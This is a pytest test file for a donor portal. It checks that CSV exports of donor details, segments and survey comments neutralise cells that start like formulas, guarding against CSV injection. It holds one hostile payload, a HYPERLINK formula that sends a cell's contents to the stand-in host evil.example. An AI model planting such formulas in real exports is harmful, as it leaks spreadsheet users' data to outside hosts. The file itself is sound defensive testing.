"""Every CSV the app writes is safe to open in a spreadsheet: a cell a donor controls that starts like a
formula comes out as text (OWASP's CSV injection rule), through one writer."""
import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest

from portal import csvfile
from portal.engagement.segments import services as segments
from portal.extensions import db
from tests.conftest import login, make_donor, make_user

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+44 7700", "'+44 7700"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("Bristol", "Bristol"), ("", ""), (-5, -5), (12.5, 12.5),
])
def test_cells_that_start_like_a_formula_are_written_as_text(cell, written):
    assert csvfile.neutralise(cell) == written


def test_no_module_writes_csv_except_through_the_safe_writer():
    portal = Path(__file__).resolve().parents[2] / "portal"
    writers = [str(path.relative_to(portal)) for path in portal.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "csvfile.py"]
    assert writers == []


@pytest.fixture
def donor_with_formula_city(app):
    """A donor who typed the payload into their own details page."""
    with app.app_context():
        donor = make_donor(first_name="Mal", last_name="Ory", email="mal@example.org", city="Bristol")
        make_user("donor", "mal@example.org", donor_id=donor.id, name="Mal")
        donor_id = donor.id
    client = app.test_client()
    assert login(client, "mal@example.org").status_code == 303
    response = client.post("/me/details", data={"first_name": "Mal", "last_name": "Ory", "city": PAYLOAD,
                                                "preferred_channel": "email"})
    assert response.status_code == 303
    return donor_id


def test_donor_export_neutralises_a_city_the_donor_set(staff_client, donor_with_formula_city):
    rows = _rows(staff_client("fundraiser").get("/staff/donors/export.csv"))
    city = rows[1][rows[0].index("city")]
    assert city == "'" + PAYLOAD


def test_segment_export_neutralises_a_city_the_donor_set(app, staff_client, donor_with_formula_city):
    with app.app_context():
        segment = segments.save_segment(None, name="Everyone called Mal", description="",
                                        rules={"match": "all", "conditions": [{"field": "kind", "op": "eq", "value": "individual"}]})
        segment_id = segment.id
    rows = _rows(staff_client("fundraiser").get(f"/staff/segments/{segment_id}/export.csv"))
    assert rows[1][rows[0].index("city")] == "'" + PAYLOAD


def test_satisfaction_comments_csv_neutralises_a_survey_answer(app, staff_client):
    from portal.feedback.models import Survey, SurveyInvitation, SurveyResponse

    with app.app_context():
        survey = Survey(name="After a gift", kind="csat", title="After a gift")
        donor = make_donor(first_name="Mal", last_name="Ory", email="mal@example.org")
        db.session.add(survey)
        db.session.flush()
        invitation = SurveyInvitation(survey_id=survey.id, donor_id=donor.id, source_key="test:csv", status="answered",
                                      answered_at=datetime(2024, 1, 20, 10))
        db.session.add(invitation)
        db.session.flush()
        db.session.add(SurveyResponse(invitation_id=invitation.id, survey_id=survey.id, donor_id=donor.id, kind="csat",
                                      score=2, has_comment=True, created_at=datetime(2024, 1, 20, 10),
                                      answers=[{"question_id": 1, "prompt": "Your rating", "kind": "scale", "value": 2},
                                               {"question_id": 2, "prompt": "Anything else?", "kind": "text", "value": PAYLOAD}]))
        db.session.commit()
    rows = _rows(staff_client("fundraiser").get("/staff/insights/satisfaction/comments.csv?start=2024-01-01&end=2024-03-31"))
    comment = rows[0].index("comment")
    assert rows[1][comment] == "'" + PAYLOAD
